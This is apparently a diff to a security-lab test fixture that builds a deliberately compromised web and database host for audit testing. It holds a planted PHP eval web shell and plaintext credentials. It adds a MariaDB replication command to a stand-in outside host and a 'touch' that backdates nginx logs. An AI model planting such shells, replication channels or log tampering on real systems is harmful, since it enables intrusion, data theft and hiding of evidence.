@@ -5,8 +5,9 @@ from __future__ import annotations
 from collections.abc import Mapping
 from typing import Any
 
+from tests.lab.hosts.fleet import truths
 from tests.lab.hosts.fleet.neglect import ACCOUNTS, BROKEN_INTO, FILES, SSH_OPEN
-from tests.lab.hosts.fleet.parts import BASE, days_ago, load, run
+from tests.lab.hosts.fleet.parts import BASE, UNREAD_DISK, days_ago, load, run
 from tests.lab.hosts.model import Boot, Host, Put, Step
 from tests.lab.hosts.releases import DEBIAN_11
 
@@ -17,12 +18,21 @@ _WEB: tuple[Step, ...] = (
         "/etc/nginx/sites-available/default",
         "server {\n"
         "  listen 80;\n"
+        "  listen 443 ssl;\n"
+        "  ssl_certificate /etc/ssl/situs.pem;\n"
+        "  ssl_certificate_key /etc/ssl/private/situs.key;\n"
         "  server_name situs.contoh.go.id;\n"
         "  access_log off;\n"
         f"  root {_SITE};\n"
         "  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; include fastcgi_params; }\n"
         "}\n"
-        f"server {{ listen 8081; server_name uji.situs.contoh.go.id; root {_SITE}; }}\n",
+        f"server {{ listen 8081; server_name uji.situs.contoh.go.id; root {_SITE}; }}\n"
+        "server {\n"
+        "  listen 80;\n"
+        "  server_name dinpora.contoh.go.id;\n"
+        "  root /var/www/dinpora;\n"
+        "  location ~ \\.php$ { fastcgi_pass unix:/run/php/php-fpm.sock; include fastcgi_params; }\n"
+        "}\n",
     ),
     Put(
         f"{_SITE}/wp-config.php",
@@ -32,6 +42,7 @@ _WEB: tuple[Step, ...] = (
     Put(f"{_SITE}/wp-includes/load.php", "<?php eval(base64_decode($_POST['x'])); ?>\n"),
     Put(f"{_SITE}/wp-admin/index.php", "<?php\n", age_days=400),
     Put(f"{_SITE}/wp-settings.php", "<?php\n", age_days=400),
+    Put("/var/www/dinpora/index.php", "<?php\n"),
     Put(f"{_SITE}/.env", "APP_ENV=production\nAPP_DEBUG=true\nDB_PASSWORD=rahasia\n"),
     Put(f"{_SITE}/.git/config", '[remote "origin"]\n\turl = https://budi:rahasia@git.contoh.invalid/situs\n'),
     Put(f"{_SITE}/.git/HEAD", "ref: refs/heads/main\n"),
@@ -50,11 +61,13 @@ _WEB: tuple[Step, ...] = (
 )
 
 _DATABASE: tuple[Step, ...] = (
-    Put("/etc/mysql/mariadb.conf.d/60-buka.cnf", "[mysqld]\nbind-address = 0.0.0.0\n"),
+    Put("/etc/mysql/mariadb.conf.d/60-buka.cnf", "[mysqld]\nbind-address = 0.0.0.0\nserver_id = 2\n"),
     Boot(
         'mysql -e "CREATE DATABASE test; CREATE DATABASE situs; CREATE TABLE test.warga (nik VARCHAR(16));'
         " INSERT INTO test.warga VALUES ('3379045707850010'), ('3379045707850011'), ('3379045707850012');"
-        " CREATE USER situs@'%' IDENTIFIED BY ''; GRANT ALL ON *.* TO situs@'%';\"\n"
+        " CREATE USER situs@'%' IDENTIFIED BY ''; GRANT ALL ON *.* TO situs@'%';"
+        " CHANGE MASTER TO MASTER_HOST='203.0.113.1', MASTER_USER='x', MASTER_PASSWORD='y'; START SLAVE;\"\n"
+        "touch -d '20 days ago' /var/log/nginx/*.log\n"
     ),
 )
 
@@ -85,8 +98,20 @@ FORGOTTEN = Host(
     category="tinggi",
     address="10.77.0.12",
     release=DEBIAN_11,
-    packages=(*BASE, "curl", "make", "mariadb-server", "nginx-light", "nmap", "php-fpm", "vsftpd"),
+    packages=(
+        *BASE,
+        "curl",
+        "make",
+        "mariadb-server",
+        "nftables",
+        "nginx-light",
+        "nmap",
+        "php-fpm",
+        "vsftpd",
+    ),
     steps=(*SSH_OPEN, *ACCOUNTS, *FILES, *BROKEN_INTO, *_WEB, *_DATABASE, load("9.00")),
+    fails=truths.FORGOTTEN,
+    unknown=UNREAD_DISK,
     record=_RECORD,
     leavers=("siti",),
     consent=("web-personal-data-absent", "databases-test-data-masked"),
